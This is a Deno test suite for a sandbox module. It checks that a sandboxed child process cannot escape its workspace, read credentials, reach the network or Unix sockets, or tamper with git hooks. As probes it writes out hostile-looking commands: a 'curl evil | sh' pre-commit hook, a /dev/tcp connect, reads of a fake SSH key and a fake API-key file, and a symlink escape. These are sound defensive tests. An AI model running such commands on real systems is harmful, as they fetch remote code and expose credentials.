// What a sandboxed child can and cannot reach, checked on the host side.
import assert from "node:assert/strict";
import { join } from "node:path";
import { createPolicy, type SandboxPolicy, spawnSandboxed } from "../../lib/sandbox/mod.ts";
import { collect, exists, visibleTempDir } from "./_helpers.ts";
import { withWorkspace } from "../support/roots.ts";

interface Layout {
  base: string;
  root: string;
  ws: string;
  home: string;
  outside: string;
  secret: string;
}

/** A data root with a temp workspace inside it (as penguin creates them), a fake HOME, and a dir outside both. */
async function layout(): Promise<Layout> {
  const base = await visibleTempDir();
  const root = join(base, "root");
  const ws = join(root, "proj", "agents", "agent", "workspaces", "tmp-0a1b2c3d");
  const home = join(base, "home");
  const outside = join(base, "outside");
  await Deno.mkdir(ws, { recursive: true });
  await Deno.mkdir(join(home, ".ssh"), { recursive: true });
  await Deno.mkdir(outside);
  const secret = join(root, "proj", ".project_config.toml");
  await Deno.writeTextFile(secret, 'api_key = "sk-data-root-secret"\n');
  await Deno.writeTextFile(join(home, ".ssh", "id_rsa"), "-----BEGIN FAKE KEY-----\n");
  return { base, root, ws, home, outside, secret };
}

/** Run `fn` with a fresh {@linkcode layout}, removed afterwards. */
async function withLayout(fn: (l: Layout) => Promise<void>): Promise<void> {
  const l = await layout();
  try {
    await fn(l);
  } finally {
    await Deno.remove(l.base, { recursive: true });
  }
}

function policyFor(l: Layout, over: Partial<SandboxPolicy> = {}): SandboxPolicy {
  return {
    ...createPolicy({
      workspace: l.ws,
      dataRoot: l.root,
      home: l.home,
      hostEnv: { PATH: Deno.env.get("PATH") ?? "", HOME: l.home },
    }),
    ...over,
  };
}

async function sh(policy: SandboxPolicy, shell: string, cwd?: string) {
  return await collect(
    await spawnSandboxed({ shell, policy, stdin: "null", ...(cwd ? { cwd } : {}) }),
  );
}

Deno.test("a sandboxed child writes inside the workspace but not outside it", () =>
  withLayout(async (l) => {
    const r = await sh(
      policyFor(l),
      `echo inside > in.txt; echo outside > ${l.outside}/out.txt; echo home > ${l.home}/h.txt; echo done`,
    );
    assert.match(r.out, /done/);
    assert.equal(await Deno.readTextFile(join(l.ws, "in.txt")), "inside\n");
    assert.equal(await exists(join(l.outside, "out.txt")), false);
    assert.equal(await exists(join(l.home, "h.txt")), false);
  }));

Deno.test("read-only mode writes nothing, not even in the workspace", () =>
  withLayout(async (l) => {
    await Deno.writeTextFile(join(l.ws, "existing.txt"), "keep\n");
    const r = await sh(
      policyFor(l, { mode: "read-only" }),
      "cat existing.txt; echo new > new.txt; echo x >> existing.txt; echo tmp > /tmp/t && cat /tmp/t",
    );
    assert.match(r.out, /keep/);
    assert.match(r.out, /tmp/);
    assert.equal(await exists(join(l.ws, "new.txt")), false);
    assert.equal(await Deno.readTextFile(join(l.ws, "existing.txt")), "keep\n");
  }));

Deno.test("the data root is hidden while the workspace inside it stays usable", () =>
  withLayout(async (l) => {
    // Control: without the OS sandbox the secret is readable, so the check below means something.
    const open = await sh(policyFor(l, { mode: "off" }), `cat ${l.secret}`);
    assert.match(open.out, /sk-data-root-secret/);

    const r = await sh(
      policyFor(l),
      `cat ${l.secret} 2>/dev/null; ls -a ${l.root}/proj; echo w > w.txt && echo wrote`,
    );
    assert.doesNotMatch(r.out, /sk-data-root-secret/);
    assert.doesNotMatch(r.out, /\.project_config\.toml/);
    assert.match(r.out, /wrote/);
    assert.equal(await Deno.readTextFile(join(l.ws, "w.txt")), "w\n");
  }));

Deno.test("~/.ssh is hidden from the child", () =>
  withLayout(async (l) => {
    const key = join(l.home, ".ssh", "id_rsa");
    assert.match((await sh(policyFor(l, { mode: "off" }), `cat ${key}`)).out, /FAKE KEY/);
    const r = await sh(policyFor(l), `cat ${key}; ls -A ${l.home}/.ssh | wc -l`);
    assert.doesNotMatch(r.out, /FAKE KEY/);
    assert.match(r.out, /^0$/m);
    assert.equal(await Deno.readTextFile(key), "-----BEGIN FAKE KEY-----\n");
  }));

Deno.test("the child gets no API keys or PENGUIN_* variables, but does get the vault", () =>
  withLayout(async (l) => {
    const policy = policyFor(l);
    policy.env = {
      allow: ["FOO_API_KEY"],
      vault: { VAULT_TOKEN_X: "from-the-vault" },
      host: {
        PATH: Deno.env.get("PATH") ?? "",
        FOO_API_KEY: "sk-foo",
        PENGUIN_X: "px",
        OPENAI_BASE_URL: "http://x",
      },
    };
    for (const mode of ["workspace-write", "off"] as const) {
      const r = await sh({ ...policy, mode }, "env");
      assert.doesNotMatch(r.out, /FOO_API_KEY|PENGUIN_X|OPENAI_BASE_URL|sk-foo/, mode);
      assert.match(r.out, /^VAULT_TOKEN_X=from-the-vault$/m, mode);
      assert.match(r.out, /^GIT_TERMINAL_PROMPT=0$/m, mode);
      assert.match(r.out, /^TERM=dumb$/m, mode);
    }
  }));

/**
 * Whether a child's TCP connect reached a listener on 127.0.0.1. After the
 * child is done the test connects itself and sends "T"; connections are
 * accepted in arrival order, so the first accepted one tells who got there
 * first: "C" from the child, or "T" when the child never arrived.
 */
async function childReachesListener(policy: SandboxPolicy): Promise<boolean> {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const port = (listener.addr as Deno.NetAddr).port;
  try {
    await sh(policy, `exec 3<>/dev/tcp/127.0.0.1/${port} && printf C >&3`);
    const own = await Deno.connect({ hostname: "127.0.0.1", port });
    await own.write(new TextEncoder().encode("T"));
    const first = await listener.accept();
    const buf = new Uint8Array(1);
    const n = await first.read(buf);
    first.close();
    own.close();
    return n === 1 && buf[0] === "C".charCodeAt(0);
  } finally {
    listener.close();
  }
}

Deno.test("with the network off a connect to a host listener never arrives; with it on, it does", () =>
  withLayout(async (l) => {
    assert.equal(await childReachesListener(policyFor(l, { network: false })), false);
    assert.equal(await childReachesListener(policyFor(l, { network: true })), true);
  }));

Deno.test(".git/hooks and .git/config cannot be changed from inside the workspace, even with git writable", () =>
  withLayout(async (l) => {
    await Deno.mkdir(join(l.ws, ".git", "hooks"), { recursive: true });
    await Deno.writeTextFile(join(l.ws, ".git", "config"), "[core]\n");
    await Deno.writeTextFile(join(l.ws, ".git", "HEAD"), "ref: refs/heads/main\n");
    // By default the whole .git is read-only.
    await sh(policyFor(l), "echo ok > .git/HEAD");
    assert.equal(await Deno.readTextFile(join(l.ws, ".git", "HEAD")), "ref: refs/heads/main\n");
    await sh(
      policyFor(l, { git: "writable" }),
      "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; " +
        "echo '[core] hooksPath = /tmp' >> .git/config; rm -rf .git/hooks; echo ok > .git/HEAD",
    );
    assert.equal(await exists(join(l.ws, ".git", "hooks", "pre-commit")), false);
    assert.equal(await Deno.readTextFile(join(l.ws, ".git", "config")), "[core]\n");
    assert.equal(await exists(join(l.ws, ".git", "hooks")), true);
    // With git writable the rest of .git is writable.
    assert.equal(await Deno.readTextFile(join(l.ws, ".git", "HEAD")), "ok\n");

    await Deno.remove(join(l.ws, ".git", "hooks"));
    await sh(
      policyFor(l, { git: "writable" }),
      "mkdir -p .git/hooks; echo x > .git/hooks/post-checkout",
    );
    assert.equal(await exists(join(l.ws, ".git", "hooks", "post-checkout")), false);
    // The read-only stand-in for the missing hooks directory is gone again.
    assert.equal(await exists(join(l.ws, ".git", "hooks")), false);
  }));

Deno.test("a symlink in the workspace does not let the child write outside it", () =>
  withLayout(async (l) => {
    await Deno.writeTextFile(join(l.outside, "target.txt"), "original\n");
    await Deno.symlink(join(l.outside, "target.txt"), join(l.ws, "link"));
    await sh(
      policyFor(l),
      "echo overwritten > link; ln ../../../../../../outside/target.txt hard 2>/dev/null; true",
    );
    assert.equal(await Deno.readTextFile(join(l.outside, "target.txt")), "original\n");
    assert.equal(await exists(join(l.ws, "hard")), false);
  }));

/**
 * Connect to each Unix socket path given as an argument; print "connected
 * <path>" on success. Nothing is written: the listener may already have
 * closed its end.
 */
const CONNECT = `for p in "$@"; do
  if command -v perl >/dev/null; then
    perl -MIO::Socket::UNIX -e '$s = IO::Socket::UNIX->new(Peer => $ARGV[0]) or exit 1' "$p" 2>/dev/null
  else
    python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])' "$p" 2>/dev/null
  fi && echo "connected $p"
done; echo done`;

Deno.test("no Unix socket the sandbox can see accepts a connection, network on or off", async () => {
  const l = await layout();
  const dirs = [l.outside, join(l.home, "projects"), l.ws, "/run"];
  const listeners: { path: string; listener: Deno.UnixListener; hits: number }[] = [];
  try {
    for (const dir of dirs) {
      const path = join(dir, `penguin-test-${crypto.randomUUID().slice(0, 8)}.sock`);
      try {
        await Deno.mkdir(dir, { recursive: true });
        const entry = { path, listener: Deno.listen({ transport: "unix", path }), hits: 0 };
        listeners.push(entry);
        (async () => {
          for await (const conn of entry.listener) {
            entry.hits++;
            conn.close();
          }
        })().catch(() => {});
      } catch {
        // /run not writable here: the other places still count.
      }
    }
    assert.ok(listeners.length >= 3);
    const paths = listeners.map((e) => e.path);
    const probe = async (policy: SandboxPolicy) =>
      await collect(await spawnSandboxed({ argv: ["bash", "-c", CONNECT, "-", ...paths], policy }));
    for (const network of [false, true]) {
      const r = await probe(policyFor(l, { network }));
      assert.match(r.out, /^done$/m);
      assert.doesNotMatch(r.out, /connected/, `network ${network}`);
    }
    assert.deepEqual(listeners.map((e) => e.hits), listeners.map(() => 0));
    // The same probe without the sandbox does connect: the check above is not vacuous.
    const open = await probe(policyFor(l, { mode: "off" }));
    for (const p of paths) assert.match(open.out, new RegExp(`^connected ${p}$`, "m"));
  } finally {
    for (const e of listeners) {
      e.listener.close();
      await Deno.remove(e.path).catch(() => {});
    }
    await Deno.remove(l.base, { recursive: true });
  }
});

Deno.test("a revealed file inside a hidden directory is readable, its neighbours stay hidden", async () => {
  await withWorkspace(async (base) => {
    const ws = join(base, "ws");
    const hidden = join(base, "home", ".penguin", "bin");
    await Deno.mkdir(ws, { recursive: true });
    await Deno.mkdir(hidden, { recursive: true });
    await Deno.writeTextFile(join(hidden, "penguin"), "the binary\n");
    await Deno.writeTextFile(join(hidden, "token"), "sk-next-to-the-binary\n");
    const policy: SandboxPolicy = {
      ...createPolicy({ workspace: ws, home: join(base, "home"), hostEnv: {} }),
      reveal: [join(hidden, "penguin")],
    };
    const r = await collect(
      await spawnSandboxed({
        shell: `cat ${hidden}/penguin; cat ${hidden}/token; echo > ${hidden}/penguin; echo end`,
        policy,
      }),
    );
    assert.match(r.out, /the binary/);
    assert.doesNotMatch(r.out, /sk-next-to-the-binary/);
    assert.match(r.out, /end/);
    assert.equal(await Deno.readTextFile(join(hidden, "penguin")), "the binary\n", "read-only");
  });
});

Deno.test("a revealed directory under /tmp is readable although the sandbox's /tmp is private", async () => {
  const code = await Deno.realPath(await Deno.makeTempDir({ prefix: "penguin-reveal-" }));
  const ws = await visibleTempDir();
  try {
    await Deno.writeTextFile(join(code, "main.ts"), "// the tool host's code\n");
    const policy: SandboxPolicy = {
      ...createPolicy({ workspace: ws, home: "", hostEnv: {} }),
      reveal: [code],
    };
    const r = await collect(
      await spawnSandboxed({ shell: `cat ${code}/main.ts; touch ${code}/x; echo end`, policy }),
    );
    assert.match(r.out, /the tool host's code/);
    assert.match(r.out, /end/);
    assert.equal(await exists(join(code, "x")), false, "read-only");
  } finally {
    await Deno.remove(code, { recursive: true });
    await Deno.remove(ws, { recursive: true });
  }
});
